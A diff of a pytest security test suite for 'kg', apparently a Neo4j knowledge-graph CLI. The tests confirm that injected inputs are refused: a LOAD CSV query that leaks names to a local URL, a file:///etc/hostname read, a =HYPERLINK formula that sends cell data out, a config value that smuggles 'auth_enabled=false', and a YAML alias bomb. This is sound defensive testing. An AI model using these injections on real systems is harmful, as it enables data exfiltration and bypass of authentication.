@@ -12,7 +12,6 @@ import os
 import shutil
 import socket
 import ssl
-import stat
 import subprocess
 import sys
 import threading
@@ -20,14 +19,13 @@ import time
 from pathlib import Path
 
 import pytest
+from conftest import CHECHNYA
 
 from kg.cli import cli
 from kg.errors import ConfigError
 from kg.export import script_statements
 from kg.loader import load
 from kg.runtime import LocalNeo4j, proc_start_time
-
-from conftest import CHECHNYA
 
 pytestmark = pytest.mark.neo4j
 
@@ -52,7 +50,7 @@ class Recorder:
         rec = self
 
         class Handler(http.server.BaseHTTPRequestHandler):
-            def do_GET(self) -> None:  # noqa: N802
+            def do_GET(self) -> None:
                 rec.requests.append(self.path)
                 body = b"a,b\n1,2\n"
                 self.send_response(200)
@@ -80,11 +78,14 @@ def web():
 
 
 def _leak_query(port: int) -> str:
-    return (f"MATCH (n:Person) LOAD CSV FROM 'http://127.0.0.1:{port}/x.csv?leak=' + n.name "
-            "AS r RETURN r")
+    return (
+        f"MATCH (n:Person) LOAD CSV FROM 'http://127.0.0.1:{port}/x.csv?leak=' + n.name "
+        "AS r RETURN r"
+    )
 
 
 # --- 1. read-only is enforced by the plan ---------------------------------------------------
+
 
 def test_read_query_with_load_csv_is_refused_and_sends_nothing(store, runner, web, tmp_path):
     load(store, [CHECHNYA])
@@ -100,17 +101,38 @@ def test_read_query_with_load_csv_is_refused_and_sends_nothing(store, runner, we
     qdir.mkdir()
     (qdir / "leak.cypher").write_text(
         "// name: leak\n// title: Innocent\n// category: mine\n// description: rows\n"
-        + _leak_query(web.port) + "\n")
+        + _leak_query(web.port)
+        + "\n"
+    )
     res = runner.invoke(cli, ["query", "run", "leak", "--queries", str(qdir)])
     assert res.exit_code == 4 and "LoadCSV" in res.output, res.output
-    res = runner.invoke(cli, ["export", "json", "--out", str(tmp_path / "x.json"),
-                              "--query", "leak", "--queries", str(qdir)])
+    res = runner.invoke(
+        cli,
+        [
+            "export",
+            "json",
+            "--out",
+            str(tmp_path / "x.json"),
+            "--query",
+            "leak",
+            "--queries",
+            str(qdir),
+        ],
+    )
     assert res.exit_code == 4 and "LoadCSV" in res.output, res.output
     assert web.requests == []
     # The harness would have seen a leak: with both flags the server does fetch the URL.
-    res = runner.invoke(cli, ["cypher", "--write", "--allow-outbound-urls",
-                              "LOAD CSV FROM $u AS r RETURN count(r) AS n",
-                              "-p", f"u=\"http://127.0.0.1:{web.port}/ok.csv\""])
+    res = runner.invoke(
+        cli,
+        [
+            "cypher",
+            "--write",
+            "--allow-outbound-urls",
+            "LOAD CSV FROM $u AS r RETURN count(r) AS n",
+            "-p",
+            f'u="http://127.0.0.1:{web.port}/ok.csv"',
+        ],
+    )
     assert res.exit_code == 0, res.output
     assert web.requests == ["/ok.csv"]
 
@@ -118,17 +140,25 @@ def test_read_query_with_load_csv_is_refused_and_sends_nothing(store, runner, we
 def test_file_urls_are_off_in_neo4j_conf(store, runner, neo4j_env):
     conf = (_local(neo4j_env).conf_dir / "neo4j.conf").read_text()
     assert "dbms.security.allow_csv_import_from_file_urls=false" in conf
-    res = runner.invoke(cli, ["cypher", "--write", "--allow-outbound-urls",
-                              "LOAD CSV FROM 'file:///etc/hostname' AS r RETURN r"])
+    res = runner.invoke(
+        cli,
+        [
+            "cypher",
+            "--write",
+            "--allow-outbound-urls",
+            "LOAD CSV FROM 'file:///etc/hostname' AS r RETURN r",
+        ],
+    )
     assert res.exit_code == 4, res.output
 
 
-def test_a_user_query_may_not_shadow_a_bundled_one_unless_it_says_so(store, runner, web,
-                                                                     tmp_path):
+def test_a_user_query_may_not_shadow_a_bundled_one_unless_it_says_so(store, runner, web, tmp_path):
     qdir = tmp_path / "q"
     qdir.mkdir()
-    body = ("// name: denials\n// title: Every denial\n// category: claims and denials\n"
-            "// description: Who denied what.\n{extra}" + _leak_query(web.port) + "\n")
+    body = (
+        "// name: denials\n// title: Every denial\n// category: claims and denials\n"
+        "// description: Who denied what.\n{extra}" + _leak_query(web.port) + "\n"
+    )
     (qdir / "denials.cypher").write_text(body.format(extra=""))
     for args in (["query", "run", "denials"], ["query", "list"]):
         res = runner.invoke(cli, [*args, "--queries", str(qdir)])
@@ -143,14 +173,17 @@ def test_a_user_query_may_not_shadow_a_bundled_one_unless_it_says_so(store, runn
     assert web.requests == []
 
 
-@pytest.mark.parametrize("query, operator", [
-    ("TERMINATE TRANSACTIONS 'neo4j-transaction-1'", "TerminateTransactions"),
-    ("SHOW TRANSACTIONS", "ShowTransactions"),
-    ("SHOW SETTINGS", "ShowSettings"),
-    ("CALL dbms.listConfig()", "dbms.listConfig"),
-    ("SHOW USERS", "AdministrationCommand"),
-    ("CALL db.createLabel('X')", "db.createLabel"),
-])
+@pytest.mark.parametrize(
+    "query, operator",
+    [
+        ("TERMINATE TRANSACTIONS 'neo4j-transaction-1'", "TerminateTransactions"),
+        ("SHOW TRANSACTIONS", "ShowTransactions"),
+        ("SHOW SETTINGS", "ShowSettings"),
+        ("CALL dbms.listConfig()", "dbms.listConfig"),
+        ("SHOW USERS", "AdministrationCommand"),
+        ("CALL db.createLabel('X')", "db.createLabel"),
+    ],
+)
 def test_commands_on_other_clients_are_refused_in_read_mode(store, runner, query, operator):
     res = runner.invoke(cli, ["cypher", query])
     assert res.exit_code == 4, res.output
@@ -164,8 +197,9 @@ def test_what_saved_queries_need_still_runs(store, runner):
     res = runner.invoke(cli, ["cypher", "SHOW INDEXES YIELD name RETURN count(*) AS n"])
     assert res.exit_code == 0, res.output
     # --write lifts the read-mode refusals (not LOAD CSV): the user said so.
-    res = runner.invoke(cli, ["cypher", "--write", "SHOW TRANSACTIONS YIELD transactionId "
-                              "RETURN count(*) AS n"])
+    res = runner.invoke(
+        cli, ["cypher", "--write", "SHOW TRANSACTIONS YIELD transactionId RETURN count(*) AS n"]
+    )
     assert res.exit_code == 0, res.output
     res = runner.invoke(cli, ["cypher", "EXPLAIN MATCH (n) RETURN n"])
     assert res.exit_code == 4 and "EXPLAIN" in res.output
@@ -173,10 +207,12 @@ def test_what_saved_queries_need_still_runs(store, runner):
 
 # --- 2. kg signals only its own processes ---------------------------------------------------
 
+
 def _stranger(*argv: str) -> subprocess.Popen:
     """A live process that is not kg's server, leader of its own process group."""
-    return subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)", *argv],
-                            start_new_session=True)
+    return subprocess.Popen(
+        [sys.executable, "-c", "import time; time.sleep(120)", *argv], start_new_session=True
+    )
 
 
 def test_a_stale_state_file_never_signals_another_process(tmp_path, runner, monkeypatch):
@@ -198,9 +234,14 @@ def test_a_stale_state_file_never_signals_another_process(tmp_path, runner, monk
             time.sleep(0.3)
             started = proc_start_time(proc.pid)
             local.root.mkdir(parents=True, exist_ok=True)
-            local._save_state(runtime="java", pid=proc.pid, pgid=proc.pid, port=local.requested_port,
-                              started=None if started_shift is None else started + started_shift,
-                              version="5.26.30")
+            local._save_state(
+                runtime="java",
+                pid=proc.pid,
+                pgid=proc.pid,
+                port=local.requested_port,
+                started=None if started_shift is None else started + started_shift,
+                version="5.26.30",
+            )
             # Even with the port answering (someone else's listener), status is not fooled.
             with socket.socket() as squat:
                 squat.bind(("127.0.0.1", local.requested_port))
@@ -219,6 +260,7 @@ def test_a_stale_state_file_never_signals_another_process(tmp_path, runner, monk
 
 
 # --- 3. credentials only to kg's own server -------------------------------------------------
+
 
 class FakeListener:
     """Listens on a port and records every byte a client sends; with ``tls`` it completes
@@ -297,8 +339,9 @@ def _home_like(neo4j_env, tmp_path, port: int) -> LocalNeo4j:
 
 
 @pytest.mark.parametrize("tls", [False, True])
-def test_a_squatter_on_the_port_never_receives_the_password(neo4j_env, tmp_path, runner,
-                                                            monkeypatch, tls):
+def test_a_squatter_on_the_port_never_receives_the_password(
+    neo4j_env, tmp_path, runner, monkeypatch, tls
+):
     port = _free_port()
     local = _home_like(neo4j_env, tmp_path, port)
     password = local.read_password().encode()
@@ -339,14 +382,16 @@ def test_the_certificate_is_made_at_start_when_missing(tmp_path, neo4j_env):
 
     src = _local(neo4j_env)
     with pytest.raises(Exception):
-        with GraphDatabase.driver(src.uri, auth=("neo4j", src.read_password()),
-                                  connection_timeout=5) as plain:
+        with GraphDatabase.driver(
+            src.uri, auth=("neo4j", src.read_password()), connection_timeout=5
+        ) as plain:
             plain.verify_connectivity()
     with src.driver() as pinned:
         pinned.verify_connectivity()
 
 
 # --- 4. faults leave things usable ----------------------------------------------------------
+
 
 def test_a_failed_start_says_why_and_leaves_no_java(neo4j_env, scratch, monkeypatch):
     """The port is taken after kg's check (a race): Java fails to bind. kg names the port,
@@ -387,16 +432,16 @@ def test_start_failure_cause_comes_from_this_runs_logs(tmp_path):
     (local.logs_dir / "neo4j.log").write_text("ERROR old run: Address already in use\n")
     marks = local._log_marks()
     with open(local.logs_dir / "console.log", "a") as f:
-        f.write("INFO starting\nERROR Failed to start: java.io.IOException: "
-                "No space left on device\n")
+        f.write(
+            "INFO starting\nERROR Failed to start: java.io.IOException: No space left on device\n"
+        )
     text = str(local.start_failure("Neo4j stopped while starting", 7687, marks))
     assert "No space left on device" in text and "console.log" in text
     assert "Address already in use" not in text  # an older run's line is not the cause
     assert "kg db restore" in text
 
 
-def test_exports_are_atomic_and_private_when_confidential(store, runner, tmp_path,
-                                                          monkeypatch):
+def test_exports_are_atomic_and_private_when_confidential(store, runner, tmp_path, monkeypatch):
     import kg.export
 
     load(store, [CHECHNYA])
@@ -417,12 +462,23 @@ def test_exports_are_atomic_and_private_when_confidential(store, runner, tmp_pat
     assert sorted(p.name for p in tmp_path.iterdir()) == ["g.json"]  # no partial file
     res = runner.invoke(cli, ["export", "json", "--out", str(out), "--include-confidential"])
     assert res.exit_code == 0 and oct(out.stat().st_mode)[-3:] == "600"
-    res = runner.invoke(cli, ["export", "csv", "--out", str(tmp_path / "csv"),
-                              "--include-confidential"])
+    res = runner.invoke(
+        cli, ["export", "csv", "--out", str(tmp_path / "csv"), "--include-confidential"]
+    )
     assert res.exit_code == 0
     assert all(oct(p.stat().st_mode)[-3:] == "600" for p in (tmp_path / "csv").iterdir())
-    res = runner.invoke(cli, ["cypher", "RETURN 1 AS x", "--out", str(tmp_path / "r.csv"),
-                              "--include-confidential", "--format", "csv"])
+    res = runner.invoke(
+        cli,
+        [
+            "cypher",
+            "RETURN 1 AS x",
+            "--out",
+            str(tmp_path / "r.csv"),
+            "--include-confidential",
+            "--format",
+            "csv",
+        ],
+    )
     assert res.exit_code == 0 and oct((tmp_path / "r.csv").stat().st_mode)[-3:] == "600"
 
 
@@ -448,6 +504,7 @@ def _local_running(store) -> bool:
 
 # --- 5. every input bounded -----------------------------------------------------------------
 
+
 def test_a_fifo_is_refused_by_name_never_a_hang(tmp_path):
     fifo = tmp_path / "records.yaml"
     os.mkfifo(fifo)
@@ -457,20 +514,39 @@ def test_a_fifo_is_refused_by_name_never_a_hang(tmp_path):
     qdir = tmp_path / "q"
     qdir.mkdir()
     os.mkfifo(qdir / "x.cypher")
-    for args in (["validate", str(fifo)], ["validate", str(case)],
-                 ["query", "list", "--queries", str(qdir)]):
-        res = subprocess.run([KG, *args], capture_output=True, text=True, timeout=60,
-                             env={**os.environ, "KG_NEO4J_URI": "bolt://127.0.0.1:1"})
+    for args in (
+        ["validate", str(fifo)],
+        ["validate", str(case)],
+        ["query", "list", "--queries", str(qdir)],
+    ):
+        res = subprocess.run(
+            [KG, *args],
+            capture_output=True,
+            text=True,
+            timeout=60,
+            env={**os.environ, "KG_NEO4J_URI": "bolt://127.0.0.1:1"},
+        )
         assert res.returncode == 1, (args, res.stdout, res.stderr)
         assert "FIFO" in res.stderr and "not a regular file" in res.stderr, res.stderr
 
 
-BOMB = "\n".join(["// name: bomb", "// title: t", "// category: c", "// description: d",
-                  "// params:", '//   - &a ["x","x","x","x","x","x","x","x","x","x"]',
-                  *[f"//   - &{chr(98 + i)} [*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},"
-                    f"*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},"
-                    f"*{chr(97 + i)},*{chr(97 + i)}]" for i in range(8)],
-                  "RETURN 1"])
+BOMB = "\n".join(
+    [
+        "// name: bomb",
+        "// title: t",
+        "// category: c",
+        "// description: d",
+        "// params:",
+        '//   - &a ["x","x","x","x","x","x","x","x","x","x"]',
+        *[
+            f"//   - &{chr(98 + i)} [*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},"
+            f"*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},"
+            f"*{chr(97 + i)},*{chr(97 + i)}]"
+            for i in range(8)
+        ],
+        "RETURN 1",
+    ]
+)
 
 
 def test_an_alias_bomb_in_a_query_header_fails_with_a_located_error(tmp_path, runner):
@@ -486,16 +562,20 @@ def test_an_alias_bomb_in_a_query_header_fails_with_a_located_error(tmp_path, ru
 
 def test_an_alias_bomb_in_a_mapping_fails_with_a_located_error(tmp_path, runner):
     mapping = tmp_path / "m.yaml"
-    mapping.write_text("\n".join(line[3:] for line in BOMB.splitlines()[4:-1])
-                       .replace("params:", "records:") + "\n")
+    mapping.write_text(
+        "\n".join(line[3:] for line in BOMB.splitlines()[4:-1]).replace("params:", "records:")
+        + "\n"
+    )
     sheet = tmp_path / "s.csv"
     sheet.write_text("a\n1\n")
     res = runner.invoke(cli, ["map", str(sheet), "--mapping", str(mapping)])
     assert res.exit_code == 1 and "m.yaml:" in res.output and "too much data" in res.output
 
 
-@pytest.mark.parametrize("value", ["1e999", "-1e999", "123456789012345678901234567890",
-                                   "[1, 99999999999999999999]", "NaN"])
+@pytest.mark.parametrize(
+    "value",
+    ["1e999", "-1e999", "123456789012345678901234567890", "[1, 99999999999999999999]", "NaN"],
+)
 def test_numbers_out_of_range_are_refused_by_parameter_name(store, runner, value):
     res = runner.invoke(cli, ["cypher", "RETURN $x AS x", "-p", f"x={value}"])
     assert res.exit_code == 2, res.output
@@ -508,7 +588,8 @@ def test_typed_saved_query_numbers_are_bounded(runner, tmp_path, store):
     (qdir / "n.cypher").write_text(
         "// name: num\n// title: n\n// category: c\n// description: d\n"
         "// params:\n//   - {name: k, type: int}\n//   - {name: f, type: float, default: 1}\n"
-        "RETURN $k AS k, $f AS f\n")
+        "RETURN $k AS k, $f AS f\n"
+    )
     for p in ("k=123456789012345678901234567890", "f=1e999"):
         args = ["query", "run", "num", "--queries", str(qdir), "-p", "k=1", "-p", p]
         res = runner.invoke(cli, args)
@@ -527,14 +608,17 @@ def test_a_newline_in_a_title_never_makes_a_statement(store, runner, tmp_path):
     # A saved query's title is one line too (it shows in `kg query list` and exports).
     qdir = tmp_path / "q"
     qdir.mkdir()
-    (qdir / "t.cypher").write_text('// name: t\n// title: "Fine\\n  denials    Every denial"\n'
-                                   "// category: c\n// description: d\nRETURN 1\n")
+    (qdir / "t.cypher").write_text(
+        '// name: t\n// title: "Fine\\n  denials    Every denial"\n'
+        "// category: c\n// description: d\nRETURN 1\n"
+    )
     res = runner.invoke(cli, ["query", "list", "--queries", str(qdir)])
     assert res.exit_code == 1 and "t.cypher:2" in res.output and "one line" in res.output
 
 
-def test_environment_values_are_checked_and_the_server_env_is_minimal(neo4j_env, tmp_path,
-                                                                       monkeypatch):
+def test_environment_values_are_checked_and_the_server_env_is_minimal(
+    neo4j_env, tmp_path, monkeypatch
+):
     local = LocalNeo4j(tmp_path / "h", _free_port())
     monkeypatch.setenv("KG_NEO4J_PAGECACHE", "256m\ndbms.security.auth_enabled=false")
     with pytest.raises(ConfigError, match="KG_NEO4J_PAGECACHE"):
@@ -554,11 +638,19 @@ def test_environment_values_are_checked_and_the_server_env_is_minimal(neo4j_env,
 
 # --- 6. outputs safe for their readers ------------------------------------------------------
 
+
 def test_formula_cells_are_neutralized_in_csv_results_only(store, runner, tmp_path):
     evil = '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"click")'
     store.write("CREATE (:Entity:Person {id: 'p-evil', name: $n, cases: ['c']})", {"n": evil})
-    res = runner.invoke(cli, ["cypher", "MATCH (p:Person) RETURN p.name AS name, -3 AS n, "
-                              "'+1' AS a, '@x' AS b, '\\tt' AS c", "--format", "csv"])
+    res = runner.invoke(
+        cli,
+        [
+            "cypher",
+            "MATCH (p:Person) RETURN p.name AS name, -3 AS n, '+1' AS a, '@x' AS b, '\\tt' AS c",
+            "--format",
+            "csv",
+        ],
+    )
     assert res.exit_code == 0, res.output
     import csv as _csv
     import io
@@ -574,10 +666,17 @@ def test_formula_cells_are_neutralized_in_csv_results_only(store, runner, tmp_pa
 
 def test_a_password_in_the_uri_never_appears(runner, monkeypatch):
     secret = "s3cret-in-uri"
-    for uri in (f"bolt://neo4j:{secret}@127.0.0.1:1", f"bolt://neo4j:{secret}@127.0.0.1:notaport",
-                f"neo4j+s://neo4j:{secret}@db.example.invalid:7687"):
+    for uri in (
+        f"bolt://neo4j:{secret}@127.0.0.1:1",
+        f"bolt://neo4j:{secret}@127.0.0.1:notaport",
+        f"neo4j+s://neo4j:{secret}@db.example.invalid:7687",
+    ):
         monkeypatch.setenv("KG_NEO4J_URI", uri)
-        for args in (["cypher", "RETURN 1"], ["db", "status"], ["db", "status", "--json"],
-                     ["query", "run", "denials"]):
+        for args in (
+            ["cypher", "RETURN 1"],
+            ["db", "status"],
+            ["db", "status", "--json"],
+            ["query", "run", "denials"],
+        ):
             res = runner.invoke(cli, args)
             assert secret not in res.output, (uri, args, res.output)
